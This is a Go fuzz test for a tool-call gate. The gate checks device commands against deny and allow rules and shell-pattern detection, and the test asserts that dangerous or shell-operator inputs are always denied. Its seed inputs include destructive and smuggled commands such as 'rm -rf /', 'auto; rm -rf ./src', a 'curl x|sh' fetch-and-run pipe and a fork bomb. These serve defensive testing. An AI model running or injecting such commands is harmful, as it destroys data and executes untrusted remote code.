package gate

import (
	"context"
	"testing"

	"github.com/physd/physd/gate/p0test"
)

// FuzzDecide: random tool names, argument names and string values never
// panic the gate, always yield one of the three decisions, never allow a
// blacklisted string or a string with shell operators (even when L1 says
// allow), and an L0 deny is always the final decision.
func FuzzDecide(f *testing.F) {
	for _, s := range []string{"auto", "rm -rf /", "auto; rm -rf ./src", "low && curl x|sh", "$(curl -s http://x/y)", ":(){ :|:& };:", "\x00", "é", "reboot"} {
		f.Add("do_set_mode", "mode", s)
	}
	srv := p0test.New(f, p0test.Options{InMemory: true, NoulFloat: true, Rules: []p0test.Rule{{NoulP: p0test.P(1), Score: p0test.N(2)}}})
	table := Table{
		Deny:  []Rule{{Name: "reset", Tool: "do_factory_reset"}, {Name: "hot", Tool: "do_heater_*", Range: &RangeMatch{Arg: "value", Max: f64(40), Outside: true}}},
		Allow: []Rule{{Name: "anything_do", Tool: "do_*"}},
	}
	gates := []*Gate{
		mustGate(f, Config{FailClosed: Ask, L0: table}),
		mustGate(f, Config{L0: table, L1: L1Config{Enabled: true, Server: srv.URL, Transport: srv.Transport()}}),
	}
	f.Fuzz(func(t *testing.T, tool, key, val string) {
		args := map[string]any{key: val}
		_, blackTool := MatchShell(tool)
		_, blackKey := MatchShell(key)
		_, blackVal := MatchShell(val)
		black := blackTool || blackKey || blackVal
		// the keyword prefilter must never hide a regexp match
		for _, s := range []string{tool, key, val} {
			if _, ok := MatchShell(s); !ok {
				for _, r := range shellRules {
					if r.re.MatchString(s) {
						t.Fatalf("prefilter hid rule %s for %q", r.Name, s)
					}
				}
			}
		}
		ops := hasShellOperator(tool) || hasShellOperator(key) || hasShellOperator(val)
		for i, g := range gates {
			r := Request{Tool: tool, Args: args, DeviceID: "fuzz", Caller: "fuzz"}
			res := g.Decide(context.Background(), r)
			switch res.Decision {
			case Allow, Ask, Deny:
			default:
				t.Fatalf("gate %d: decision %q", i, res.Decision)
			}
			switch res.Layer {
			case LayerL0, LayerL1, LayerFailClosed:
			default:
				t.Fatalf("gate %d: layer %q", i, res.Layer)
			}
			if black && res.Decision != Deny {
				t.Fatalf("gate %d: blacklisted %q %q %q → %s (%s)", i, tool, key, val, res.Decision, res.Reason)
			}
			if ops && res.Decision == Allow {
				t.Fatalf("gate %d: operator string %q %q %q allowed (%s)", i, tool, key, val, res.Reason)
			}
			l0 := g.DecideL0(r)
			if l0.Decision == Deny && (res.Decision != Deny || res.Layer != LayerL0) {
				t.Fatalf("gate %d: L0 deny not final: %+v", i, res)
			}
			if dr := g.DryRun(context.Background(), r); (black && dr.Decision != Deny) || (ops && dr.Decision == Allow) {
				t.Fatalf("gate %d: dry run %+v", i, dr)
			}
			c1, f1 := Canonical(tool, args)
			if c1 != res.Command || f1 != res.Fingerprint {
				t.Fatalf("canonical not deterministic")
			}
		}
	})
}
